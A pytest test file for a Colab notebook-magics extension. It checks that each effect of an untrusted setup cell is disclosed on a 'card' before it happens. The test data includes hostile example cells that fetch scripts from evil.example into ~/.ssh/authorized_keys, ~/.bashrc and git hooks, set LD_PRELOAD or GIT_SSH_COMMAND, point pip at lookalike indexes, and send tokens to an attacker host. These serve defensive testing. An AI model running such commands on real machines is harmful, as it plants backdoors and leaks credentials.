"""Setup cells of a stranger's: whatever they do was on the card before they did it."""

from __future__ import annotations

import io
import os
import sys
import zipfile
from pathlib import Path
from typing import Any, Dict, Iterator, List, NamedTuple, Set

import pytest
from doubles.git_server import git
from doubles.proxy import Proxy
from support.cells import Cells

from colab_magics.apt import apt_get, sources
from colab_magics.core.effects import Effects, join
from colab_magics.secret import lookup
from colab_magics.secret import step as secret_step
from colab_magics.setup import magic_trust
from colab_magics.setup.card import Card

HEAD = "# colab_magics:setup v1\n%reload_ext colab_magics\n"
#: What our own tools keep for themselves, and what the tests do.
OURS = (
    "cache",
    ".cache",
    ".ipython",
    ".local/state",
    ".keras",
    "pins.",
    "bin",
    "log",
    ".local/share/uv",
)


class Case(NamedTuple):
    """A cell: the codes of its dangers, what at least happens, and hosts that the card names."""

    lines: str
    dangers: str = ""
    happens: str = ""
    hosts: str = ""


PLAIN, OTHER = "plain-http", "other-index"
ID = "1AbCdEfGhIjKlMnOp"
CASES: Dict[str, Case] = {
    "a name like another, of another index": Case(
        "%pin reqeusts==2.0 --extra-index-url https://evil.example/simple", OTHER, "contact"
    ),
    "another index": Case("%pin evilpkg --index-url https://evil.example/simple", OTHER, "contact"),
    "an index over http": Case(
        "%pin evilpkg -i http://evil.example/simple", f"{OTHER} {PLAIN}", "contact"
    ),
    "one more index over http": Case(
        "%pin evilpkg --extra-index-url http://evil.example/s", f"{OTHER} {PLAIN}", "contact"
    ),
    "links over http": Case(
        "%pin evilpkg -f http://evil.example/links", f"{OTHER} {PLAIN}", "contact"
    ),
    "a page of links": Case("%pin evilpkg -f https://evil.example/links", OTHER, "contact"),
    "an index at another port": Case(
        "%pin evilpkg -i https://evil.example:8443/simple",
        OTHER,
        "contact",
        "evil.example:8443",
    ),
    "a wheel over http": Case(
        '%pin "evilpkg @ http://evil.example/evilpkg-1.0-py3-none-any.whl"', PLAIN, "contact"
    ),
    "git over http": Case('%pin "evilpkg @ git+http://evil.example/e.git"', PLAIN, "contact start"),
    "git of an odd host": Case(
        '%pin "evilpkg @ git+https://evil.example/e.git"', "", "contact", "evil.example"
    ),
    "git over ssh": Case(
        '%pin "evilpkg @ git+ssh://git@evil.example/e.git"', "", "contact", "evil.example"
    ),
    "letters of another alphabet": Case(
        "%pin evilpkg -i https://рурі.example/simple", OTHER, "contact", "xn--p1aai1f.example"
    ),
    "a login that looks like a host": Case(
        "%pin evilpkg -i https://pypi.org@evil.example/simple", OTHER, "contact", "evil.example"
    ),
    "a URL that is read in two ways": Case(
        r"%pin evilpkg -i 'https://pypi.org\@evil.example/simple'",
        OTHER,
        "",
        "evil.example pypi.org",
    ),
    "an index in a file": Case("%pin -r requirements.txt", f"{OTHER} {PLAIN}", "contact"),
    "a file that a clone brings": Case(
        "%github clone file://{repo} brought\n%pin -r brought/requirements.txt",
        f"{OTHER} {PLAIN}",
        "contact start",
    ),
    "such a file beside another pin": Case(
        "%github clone file://{repo} brought\n%pin evilpkg==1\n%pin -r brought/requirements.txt",
        f"{OTHER} {PLAIN}",
        "contact start",
    ),
    "a secret for an index": Case(
        "%pin evilpkg -i https://evil.example/simple --index-auth MY_TOKEN",
        f"{OTHER} secret-to-host",
        "contact",
    ),
    "constraints over http": Case(
        "%pin evilpkg --constraint http://evil.example/c.txt", PLAIN, "contact"
    ),
    "a build of torch": Case(
        "%pin evilpkg --torch-backend cu121", "", "contact", "download.pytorch.org"
    ),
    "an index by a variable": Case(
        "%env_persist PIP_INDEX_URL=http://evil.example/simple\n%pin evilpkg",
        f"{OTHER} {PLAIN}",
        "contact variable",
    ),
    "an index by a variable of uv": Case(
        "%env_persist UV_INDEX=https://evil.example/simple\n%pin evilpkg",
        OTHER,
        "contact variable",
    ),
    "a configuration of pip's": Case("%env_persist PIP_CONFIG_FILE=./pip.conf", OTHER, "variable"),
    "a folder of programs": Case("%env_persist --prepend PATH=./tools", "", "variable"),
    "a library for every program": Case("%env_persist LD_PRELOAD=./x.so", "", "variable"),
    "a proxy": Case(
        "%env_persist HTTPS_PROXY=http://evil.example:3128", "", "variable", "evil.example:3128"
    ),
    "a program for git": Case("%env_persist GIT_SSH_COMMAND=./evil.sh", "", "variable"),
    "trust itself": Case(
        "%env_persist COLAB_MAGICS_TRUST=all\n%fetch http://evil.example/x.sh",
        f"trust {PLAIN}",
        "variable contact",
    ),
    "a file over http": Case("%fetch http://evil.example/x.sh", PLAIN, "contact"),
    "keys for ssh": Case(
        "%fetch http://evil.example/x.sh ~/.ssh/authorized_keys", PLAIN, "contact write"
    ),
    "the start of each shell": Case(
        "%fetch http://evil.example/x.sh ~/.bashrc", PLAIN, "contact write"
    ),
    "a hook of this repository": Case(
        "%fetch http://evil.example/x.sh .git/hooks/pre-commit", PLAIN, "contact write"
    ),
    "a link in the working directory": Case(
        "%fetch http://evil.example/x.sh inside/authorized_keys", PLAIN, "contact write"
    ),
    "an archive over a repository": Case(
        "%fetch http://evil.example/a.zip repo --unpack", f"into-repository {PLAIN}", "contact"
    ),
    "an archive over home": Case(
        "%fetch http://evil.example/a.zip ~ --unpack", f"trust {PLAIN}", "contact write"
    ),
    "the key itself": Case(
        "%fetch http://evil.example/x.sh ~/.config/colab-magics/trust.key",
        f"trust {PLAIN}",
        "contact write",
    ),
    "a secret for an odd host": Case(
        "%fetch https://evil.example/x.sh --token MY_TOKEN", "secret-to-host", "contact secret"
    ),
    "a host that looks like Drive": Case(
        f"%fetch https://drive.google.com.evil.example/uc?id={ID}",
        "",
        "contact",
        "drive.google.com.evil.example",
    ),
    "a host in another alphabet": Case(
        "%fetch http://gіthub.example/x.sh", PLAIN, "contact", "xn--gthub-n2e.example"
    ),
    "a server that sends on": Case("%fetch http://evil.example/away x.sh", PLAIN, "contact"),
    "a URL with a login": Case("%fetch http://github.com@evil.example/x.sh"),
    "a list of Zenodo's": Case("%fetch zenodo:12345", "", "contact", "zenodo.org"),
    "a dataset of Kaggle's": Case("%fetch kaggle://a/b/c.csv", "", "contact", "www.kaggle.com"),
    "a clone over http, in home": Case(
        "%github clone http://evil.example/e.git ~/e", PLAIN, "contact start"
    ),
    "a clone over ssh": Case(
        "%github clone git@evil.example:e/e.git", "", "contact start", "evil.example"
    ),
    "a secret for a clone": Case(
        "%github clone https://evil.example/e.git --token MY_TOKEN",
        "secret-to-host",
        "contact secret",
    ),
    "packages of a system with odd sources": Case(
        "%apt evilpkg", "", "contact start", "mirror.evil.example"
    ),
    "a folder as the drive": Case(
        "%drive mount ~/shared --from ~/other --provider folder", "", "write"
    ),
    "a folder in home": Case("%cd_persist ~/new --make", "", "write"),
    "checkpoints in home": Case("%checkpoint notes --to ~/kept", "", "write"),
    "a secret": Case("%secret MY_TOKEN OTHER_TOKEN", "", "secret"),
    "a service and an odd host": Case(
        "%fetch https://github.com/a/b/raw/main/c https://evil.example/x.sh d/",
        "",
        "contact",
        "github.com evil.example",
    ),
}


class Event(NamedTuple):
    """Something that happened: its kind, what, and for a contact the host that led there."""

    kind: str
    what: Any
    by: str = ""


#: The end of the name of a file that has not arrived.
_PART = ".colab-magics-part"
#: What the hook of this process appends to while a cell of a test runs.
_HOOKED: List[List[Event]] = []
_HOME: List[Path] = []


def _audit(name: str, arguments: Any) -> None:
    """Note programs that are started, and files that this process writes below home."""
    if not _HOOKED:
        return
    if name == "subprocess.Popen":
        _HOOKED[-1].append(Event("start", str(arguments[0])))
    mode = arguments[2] if name == "open" else 0
    writes = bool(mode and mode & (os.O_WRONLY | os.O_RDWR | os.O_CREAT))
    if (writes or name == "os.mkdir") and isinstance(arguments[0], str):
        path = Path(os.path.realpath(arguments[0]))
        if name == "os.mkdir" and path.exists():
            return
        if path.name.endswith(_PART):  # beside the file that it will be
            path = path.with_name(path.name[1 : -len(_PART)])
        if _counts(path):
            _HOOKED[-1].append(Event("write", path))


def _counts(path: Path) -> bool:
    """Whether a file is outside the working directory, or hidden in it, and not our tools'."""
    home = _HOME[-1]
    if home not in path.parents:
        return False
    relative = path.relative_to(home).as_posix()
    if relative.startswith("work/"):
        return "/." in relative and not relative.startswith(
            ("work/repo/", "work/brought", "work/.brought")
        )
    return not relative.startswith(OURS)


@pytest.fixture(scope="module", autouse=True)
def hooked() -> None:
    """Python has no way to take such a hook away: it does nothing outside the cells."""
    sys.addaudithook(_audit)


@pytest.fixture
def events(home: Path, run: Cells, monkeypatch: pytest.MonkeyPatch) -> Iterator[List[Event]]:
    """What happens, in its order; every program reaches the network by a proxy that notes it."""
    seen: List[Event] = []
    monkeypatch.setattr("colab_magics.fetch.http.PAUSE", 0.01)
    for name in ("XDG_CONFIG_HOME", "NO_PROXY", "no_proxy", "UV_INDEX", "PIP_INDEX_URL"):
        monkeypatch.delenv(name, raising=False)
    _make_machine(home, monkeypatch)
    with Proxy(lambda host, by: seen.append(Event("contact", host, by))) as proxy:
        for name in ("http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY"):
            monkeypatch.setenv(name, proxy.at)
        proxy.pages = {"evil.example/x.sh": b"evil", "evil.example/a.zip": _archive()}
        proxy.pages["xn--gthub-n2e.example/x.sh"] = b"evil"
        proxy.pages["other.example/x.sh"] = b"evil"
        proxy.leads = {"evil.example/away": "http://other.example/x.sh"}

        def show(card: object, live: bool = False) -> None:
            if isinstance(card, Card):
                seen.append(Event("card", card.effects))

        def find(host: object, name: str, *rest: Any) -> Any:
            seen.append(Event("secret", name))
            return lookup.find(host, name, *rest)  # type: ignore[arg-type]

        monkeypatch.setattr(magic_trust, "show", show)
        monkeypatch.setattr(secret_step, "find", find)
        monkeypatch.setattr(lookup, "value", lambda host, name: find(host, name)[0])
        for module in ("fetch.fetcher", "github.clone"):
            monkeypatch.setattr(f"colab_magics.{module}.value", lambda h, name: find(h, name)[0])
        _HOME.append(home.resolve())
        _HOOKED.append(seen)
        yield seen
        run("%unload_ext colab_magics")  # or a process of its checkpoints could begin later
        _HOOKED.pop()


def _make_machine(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Repositories, a link, a file of requirements, and programs that note what they are asked."""
    work, programs = home / "work", home / "bin"
    for folder in (programs, home / ".ssh", home / "other", work / "notes", work / "tools"):
        folder.mkdir(parents=True)
    (work / "inside").symlink_to(home / ".ssh")
    (work / "requirements.txt").write_text("--extra-index-url http://evil.example/s\nevilpkg\n")
    (work / "pip.conf").write_text("[global]\nindex-url = http://evil.example/simple\n")
    for place in (work, work / "repo"):
        (place / ".git" / "hooks").mkdir(parents=True)
    (home / "apt").mkdir()
    (home / "apt" / "sources.list").write_text(
        "deb [arch=amd64] http://mirror.evil.example/d a b\n"
    )
    monkeypatch.setattr(sources, "FOLDER", home / "apt")
    monkeypatch.setattr(apt_get, "LISTS", home / "apt")
    program = programs / "apt-get"
    request = "import sys, urllib.request as r; r.urlopen('http://mirror.evil.example/d')"
    program.write_text(f"#!{sys.executable}\n{request}\n")
    ssh = programs / "ssh"  # which has no proxy: it asks as a browser does
    ask = "host = next(x for x in sys.argv if 'evil' in x).partition('@')[2]"
    ssh.write_text(
        f"#!{sys.executable}\nimport sys, urllib.request as r\n{ask}\nr.urlopen(f'http://{{host}}/')\n"
    )
    for each in (program, ssh):
        each.chmod(0o755)
    monkeypatch.setenv("PATH", f"{programs}{os.pathsep}{os.environ['PATH']}")
    for name, value in (
        ("GIT_SSH", str(ssh)),
        ("MY_TOKEN", "canary-51f0c2"),
        ("OTHER_TOKEN", ""),
        ("UV_HTTP_RETRIES", "0"),
        ("XDG_CACHE_HOME", str(home / "cache")),
        ("GIT_TERMINAL_PROMPT", "0"),
        ("GIT_CONFIG_COUNT", "1"),
        ("GIT_CONFIG_KEY_0", "protocol.file.allow"),
        ("GIT_CONFIG_VALUE_0", "always"),
    ):
        monkeypatch.setenv(name, value)


def _make_repository(home: Path) -> Path:
    folder = home / "bin" / "stranger"
    folder.mkdir()
    (folder / "requirements.txt").write_text("-i http://evil.example/simple\nevilpkg\n")
    git(folder, "init", "-q")
    git(folder, "add", ".")
    git(folder, "commit", "-qm", "a")
    return folder


def _archive() -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        for name in ("README", "hooks/pre-commit", "src/setup.py"):
            archive.writestr(name, "evil")
    return data.getvalue()


def _files(home: Path) -> Dict[Path, float]:
    """Every file that counts, with its time."""
    files = (path for path in home.resolve().rglob("*") if not path.is_symlink())
    return {path: path.stat().st_mtime_ns for path in files if path.is_file() and _counts(path)}


def _is_written(path: Path, effects: Effects, home: Path) -> bool:
    places = [
        Path(str(home.resolve()) + text[1:]) if text[0] == "~" else Path(text)
        for text in effects.writes
    ]
    return any(place == path or place in path.parents or path in place.parents for place in places)


def _is_on_card(event: Event, effects: Effects, home: Path) -> bool:
    if event.kind == "contact":
        return event.what in effects.hosts or (event.by != "" and event.by in effects.redirects)
    if event.kind == "write":
        return _is_written(event.what, effects, home)
    if event.kind == "secret":
        return event.what in effects.secrets
    if event.kind == "variable":
        return any(text.startswith(f"{event.what}=") for text in effects.variables)
    return effects != Effects()  # a program, whose own doings count


@pytest.mark.parametrize("name", CASES)
def test_what_a_cell_does_was_on_the_card(
    name: str, events: List[Event], run: Cells, home: Path
) -> None:
    """Servers, secrets, variables, files and programs: each after a card with it; none is asked."""
    case, files, variables = CASES[name], _files(home), dict(os.environ)
    stranger = _make_repository(home) if "{repo}" in case.lines else home
    events.clear()
    run.attempt(HEAD + case.lines.replace("{repo}", str(stranger)))
    new = [path for path, time in _files(home).items() if files.get(path) != time]
    events += [Event("write", path) for path in new]
    changed = {key for key, value in os.environ.items() if variables.get(key) != value}
    events += [Event("variable", key) for key in changed - {"PYTEST_CURRENT_TEST"}]
    cards: List[Effects] = []
    missing = []
    for event in events:
        if event.kind == "card":
            cards.append(event.what)
        elif not _is_on_card(event, join(cards), home):
            missing.append(event)
    assert missing == [], cards
    assert set(case.happens.split()) <= {event.kind for event in events}, events
    seen = join(cards)
    codes: Set[str] = {danger.code for danger in seen.dangers}
    assert codes == set(case.dangers.split())
    assert set(case.hosts.split()) <= {*seen.hosts}
